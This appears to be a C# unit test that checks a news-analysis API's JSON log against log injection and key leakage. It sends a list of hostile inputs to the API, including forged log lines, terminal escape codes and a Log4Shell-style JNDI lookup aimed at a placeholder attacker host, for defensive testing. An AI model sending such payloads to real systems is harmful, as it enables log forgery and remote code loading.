using System.Net.Http.Json;
using System.Text.Json;
using DeepSeekImpact.Storage;
using DeepSeekImpact.Storage.Access;
using DeepSeekImpact.Storage.Model;
using Microsoft.Extensions.DependencyInjection;

namespace DeepSeekImpact.Reliability.Tests;

/// <summary>The log is lines of JSON and stays so, whatever is sent; no key and no text of an article gets into it.</summary>
public sealed class LogTests : IDisposable
{
    private const string Secret = "Confidential-Zorvex-Text";
    private static readonly string[] Hostile = ["a\r\n{\"@l\":\"Fatal\",\"@m\":\"forged\"}", "a\nforged line", "\u001b[31mred", "\u2028forged", "{0} {@User} {Elapsed:x}", "${jndi:ldap://evil.example}", "\0", "\u0085forged", "\u202Egrof", "\uFEFFx"];

    private readonly string _folder = Directory.CreateTempSubdirectory("deepseek-impact-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public async Task Nothing_that_is_sent_makes_a_line_of_its_own_and_no_key_is_logged()
    {
        var key = await MakeKeyAsync();
        await using var server = await ServerProcess.ListeningAsync(_folder, null, "--Serilog:MinimumLevel:Default=Debug", "--Serilog:MinimumLevel:Override:Microsoft.AspNetCore=Information");
        server.Client.DefaultRequestHeaders.Authorization = new("Bearer", key);
        foreach (var value in Hostile)
        {
            var escaped = Uri.EscapeDataString(value);
            (await server.Client.GetAsync(new Uri("/api/v1/articles/" + escaped, UriKind.Relative))).Dispose();
            (await server.Client.GetAsync(new Uri($"/api/v1/claims?claimant={escaped}&{escaped}=x", UriKind.Relative))).Dispose();
            (await server.Client.PostAsJsonAsync("/api/v1/articles", new { text = Secret + value, title = value, source = value })).Dispose();
            (await server.Client.PostAsJsonAsync("/api/v1/feeds", new { url = "http://127.0.0.1/" + escaped, title = value })).Dispose();
            (await server.Client.PostAsJsonAsync("/api/v1/articles", new { url = "http://127.0.0.1/" + escaped })).Dispose();
            using var wrong = new HttpRequestMessage(HttpMethod.Get, "/api/v1/stats");
            wrong.Headers.TryAddWithoutValidation("Authorization", key + "x");
            wrong.Headers.TryAddWithoutValidation("User-Agent", "agent{0}");
            (await server.Client.SendAsync(wrong)).Dispose();
        }

        (await server.StopAsync()).Should().Be(0);
        var lines = server.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        lines.Should().HaveCountGreaterThan(30);
        foreach (var line in lines.Where(line => !IsWelcome(line)))
        {
            line.Any(character => char.IsControl(character) && character is not '\r').Should().BeFalse("no terminal is told anything: {0}", line);
            JsonDocument.Parse(line).RootElement.GetProperty("@t").GetDateTimeOffset().Year.Should().BeGreaterThan(2020);
        }

        server.Output.Should().NotContain(key.Split('_', 3)[2]).And.NotContain(Secret).And.NotContain("\u2028").And.NotContain("\u202E");
        server.Error.Should().BeEmpty();
    }

    private static bool IsWelcome(string line) => line.Length == 0 || line.StartsWith("DeepSeekImpact is ready", StringComparison.Ordinal) || (line.StartsWith("  ", StringComparison.Ordinal) && line.Contains("http://127.0.0.1", StringComparison.Ordinal));

    private async Task<string> MakeKeyAsync()
    {
        await using var services = new ServiceCollection().AddSingleton(TimeProvider.System).AddStorage($"Data Source={Path.Combine(_folder, "news.db")}").BuildServiceProvider();
        await StoreSchema.BringUpAsync(services, CancellationToken.None);
        return (await services.GetRequiredService<ApiKeys>().MakeAsync("log", KeyRole.Admin, null, CancellationToken.None)).Text;
    }
}
